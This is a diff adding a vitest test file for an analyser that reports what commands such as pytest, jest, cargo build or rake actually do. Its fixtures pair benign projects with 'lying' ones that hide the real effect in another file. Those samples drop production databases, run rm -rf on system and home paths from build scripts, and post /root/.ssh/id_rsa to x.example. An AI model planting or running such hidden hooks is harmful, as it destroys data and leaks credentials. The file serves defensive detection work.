@@ -1,0 +1,250 @@
+import { expect, test } from 'vitest'
+import { effectLines } from '../../testing/effect-lines.ts'
+
+type Files = Readonly<Record<string, string>>
+
+const linesOf = (command: string, files: Files): readonly string[] =>
+  effectLines(command, { files: Object.fromEntries(Object.entries(files).map(([name, text]) => [`/w/${name}`, text])) })
+
+interface Twin {
+  readonly command: string
+  /** The same project, but for what it is told to act on. */
+  readonly files: (told: string) => Files
+  readonly lie: readonly [told: string, line: string]
+  readonly honest: string
+}
+
+const drops = (host: string): Twin => ({
+  command: 'pytest',
+  files: (told) => ({
+    'conftest.py': 'from support.db import engine, reset\ndef pytest_configure(config):\n    reset(engine)\n',
+    'support/db.py': `from sqlalchemy import create_engine, text\nengine = create_engine("postgresql://a:b@${told}")\ndef reset(e):\n    with e.begin() as c:\n        c.execute(text("DROP SCHEMA public CASCADE"))\n`,
+  }),
+  lie: [host, 'database:destroy'],
+  honest: 'localhost/app_test',
+})
+
+/** A project that lies about what its command does, and one that is built alike and does its own work. */
+test.each<readonly [name: string, twin: Twin]>([
+  ['a database that a function of another file empties', drops('db.prod.internal/app')],
+  [
+    'a database on another machine that tests connect to',
+    {
+      command: 'npx jest',
+      files: (told) => ({
+        'package.json': '{"devDependencies":{"jest":"29"},"jest":{"globalSetup":"<rootDir>/test/setup.cjs"}}',
+        'test/setup.cjs':
+          "const { MongoClient } = require('mongodb')\nconst config = require('./config.json')\nmodule.exports = async () => (await MongoClient.connect(config.uri)).db('shop').dropDatabase()\n",
+        'test/config.json': `{"uri":"mongodb://${told}/"}`,
+      }),
+      lie: ['cluster0.acme.mongodb.net', 'database:'],
+      honest: 'localhost:27017',
+    },
+  ],
+  [
+    'data without an ending',
+    {
+      command: 'node a.js',
+      files: (told) => ({
+        'a.js': "const cp = require('child_process')\nfor (const step of require('./plan')) cp.execFileSync(step.bin, step.args)\n",
+        'plan.json': `[{"bin":"git","args":["status"]},{"bin":"rm","args":["-rf","${told}"]}]`,
+      }),
+      lie: ['/opt/x', 'delete /opt/x'],
+      honest: 'dist',
+    },
+  ],
+  [
+    'a folder that says what it gives',
+    {
+      command: 'npx tailwindcss -i a.css -o dist/a.css',
+      files: (told) => ({
+        'package.json': '{"devDependencies":{"tailwindcss":"3"}}',
+        'tailwind.config.js': "module.exports = { theme: require('./design') }\n",
+        'design/package.json': '{"exports":{".":{"require":"./lib/theme.cjs"}}}',
+        'design/lib/theme.cjs': `require('fs').rmSync('${told}', { recursive: true })\n`,
+      }),
+      lie: ['/opt/x', 'delete /opt/x'],
+      honest: 'dist',
+    },
+  ],
+  [
+    'a list of secrets in another file',
+    {
+      command: 'node a.js',
+      files: (told) => ({
+        'a.js':
+          "const fs = require('fs')\nconst { FILES } = require('./list')\nfor (const f of FILES) fetch('https://x.example', { method: 'POST', body: fs.readFileSync(f) })\n",
+        'list.js': `exports.FILES = ['${told}']\n`,
+      }),
+      lie: ['/root/.ssh/id_rsa', 'send:data'],
+      honest: 'README.md',
+    },
+  ],
+  [
+    'words that a function of another file gives',
+    {
+      command: 'nox -s tests',
+      files: (told) => ({
+        'noxfile.py':
+          'import nox\nfrom ci.steps import words\n@nox.session\ndef tests(session):\n    session.run(*words(), external=True)\n',
+        'ci/steps.py': `def words(repo="pypi"):\n    return [${told}]\n`,
+      }),
+      lie: ['"twine", "upload", "--repository", repo, "dist/*"', 'publish:'],
+      honest: '"git", "status"',
+    },
+  ],
+  [
+    'a template of a command',
+    {
+      command: 'python a.py',
+      files: (told) => ({
+        'a.py': `import os\nfrom string import Template\nCLEAN = Template("rm -rf $base")\nos.system(CLEAN.substitute(base="${told}"))\n`,
+      }),
+      lie: ['/opt/x', 'delete /opt/x'],
+      honest: 'dist',
+    },
+  ],
+  [
+    'statements in files that are found',
+    {
+      command: 'python tools/migrate.py',
+      files: (told) => ({
+        'tools/migrate.py':
+          'import psycopg2\nfrom pathlib import Path\ncur = psycopg2.connect(host="db.acme.io").cursor()\nfor f in sorted(Path("sql").glob("*.sql")):\n    cur.execute(f.read_text())\n',
+        'sql/001.sql': told,
+      }),
+      lie: ['DROP DATABASE x;', 'database:destroy'],
+      honest: 'CREATE TABLE IF NOT EXISTS x (id int);',
+    },
+  ],
+  [
+    'a statement in a list of Go',
+    {
+      command: 'go run .',
+      files: (told) => ({
+        'main.go': `package main\nimport "database/sql"\nvar list = []string{"SELECT 1", "${told}"}\nfunc main() {\n\tdb, _ := sql.Open("postgres", "postgres://a@db.acme.io/t")\n\tfor _, s := range list {\n\t\tdb.Exec(s)\n\t}\n}\n`,
+      }),
+      lie: ['DROP DATABASE x', 'database:destroy'],
+      honest: 'CREATE TABLE x (id int)',
+    },
+  ],
+  [
+    'a path of Perl that is put together',
+    {
+      command: 'perl a.pl',
+      files: (told) => ({
+        'a.pl': `use File::Spec;\nuse File::Path;\nmy $d = File::Spec->catdir(${told}, 'x');\nremove_tree($d);\n`,
+      }),
+      lie: ['$ENV{HOME}', 'delete ~/x'],
+      honest: "'dist'",
+    },
+  ],
+  [
+    'a text of Lua in quotes',
+    {
+      command: 'lua a.lua',
+      files: (told) => ({ 'a.lua': `local d = ${told}\nos.execute(string.format("rm -rf %q", d))\n` }),
+      lie: ['os.getenv("HOME") .. "/x"', 'delete ~/x'],
+      honest: '"dist/x"',
+    },
+  ],
+  [
+    'what tests of Rust call',
+    {
+      command: 'cargo test',
+      files: (told) => ({
+        'Cargo.toml': '',
+        'src/store.rs': `use std::path::PathBuf;\nfn wipe() { let root = ${told}; std::fs::remove_dir_all(&root).ok(); }\n#[test]\nfn t() { wipe(); }\n`,
+      }),
+      lie: ['PathBuf::from(std::env::var("HOME").unwrap()).join("x")', 'delete ~/x'],
+      honest: 'std::env::temp_dir().join("x")',
+    },
+  ],
+  [
+    'a list of words of Rust',
+    {
+      command: 'cargo build',
+      files: (told) => ({
+        'build.rs': `use std::process::Command;\nconst WORDS: [&str; 2] = ["-rf", "${told}"];\nfn main() { Command::new("rm").args(&WORDS).status().unwrap(); }\n`,
+      }),
+      lie: ['/opt/x', 'delete /opt/x'],
+      honest: 'target/x',
+    },
+  ],
+  [
+    'commands in a list of Rust',
+    {
+      command: 'cargo build',
+      files: (told) => ({
+        'build.rs': `use std::process::Command;\nfn main() { for (program, words) in [("rm", vec!["-rf", "${told}"])] { Command::new(program).args(words).status().unwrap(); } }\n`,
+      }),
+      lie: ['/opt/x', 'delete /opt/x'],
+      honest: 'target/x',
+    },
+  ],
+  [
+    'a list of Elixir',
+    {
+      command: 'mix tidy',
+      files: (told) => ({
+        'mix.exs': '',
+        'lib/mix/tasks/tidy.ex': `defmodule Mix.Tasks.Tidy do\n  @words ["rm", "-rf", "${told}"]\n  def run(_) do\n    [program | rest] = @words\n    System.cmd(program, rest)\n  end\nend\n`,
+      }),
+      lie: ['/opt/x', 'delete /opt/x'],
+      honest: '_build',
+    },
+  ],
+  [
+    'a function of CMake',
+    {
+      command: 'cmake -B build -S .',
+      files: (told) => ({
+        'CMakeLists.txt': `function(reset folder)\n  file(REMOVE_RECURSE "\${folder}")\nendfunction()\nreset(${told})\n`,
+      }),
+      lie: ['/opt/x', 'delete /opt/x'],
+      honest: 'build/x',
+    },
+  ],
+  [
+    'a script that a build of Meson starts',
+    {
+      command: 'meson setup build',
+      files: (told) => ({
+        'meson.build': "project('a', 'c')\nr = run_command('tools/version.sh', check: true)\n",
+        'tools/version.sh': `#!/bin/sh\nrm -rf ${told}\n`,
+      }),
+      lie: ['/opt/x', 'delete /opt/x'],
+      honest: 'build/x',
+    },
+  ],
+  [
+    'a file that SCons deletes',
+    {
+      command: 'scons',
+      files: (told) => ({ SConstruct: `Execute(Delete("${told}"))\n` }),
+      lie: ['../x', 'delete /x'],
+      honest: 'build/x',
+    },
+  ],
+  [
+    'what a file of tasks requires',
+    {
+      command: 'rake lint',
+      files: (told) => ({
+        Rakefile: 'Dir.glob("lib/tasks/*.rake").each { |f| load f }\ntask lint: :prepare\n',
+        'lib/tasks/prepare.rake': 'require_relative "../cleaner"\ntask :prepare do\n  Cleaner.new.call\nend\n',
+        'lib/cleaner.rb': `class Cleaner\n  TARGETS = %w[${told}].freeze\n  def call\n    TARGETS.each { |t| FileUtils.rm_rf(t) }\n  end\nend\n`,
+      }),
+      lie: ['/opt/x', 'delete /opt/x'],
+      honest: 'coverage',
+    },
+  ],
+])('%s', (_name, { command, files, lie: [told, line], honest }) => {
+  const lines = linesOf(command, files(told))
+  expect(
+    lines.filter((one) => one.startsWith(line)),
+    lines.join('; '),
+  ).not.toEqual([])
+  const own = /^(?:execute:project|write|read|install:manifest|connect:post|send:data|delete (?:dist|build|target|coverage|_build)\b)/
+  expect(linesOf(command, files(honest)).filter((one) => !own.test(one))).toEqual([])
+})
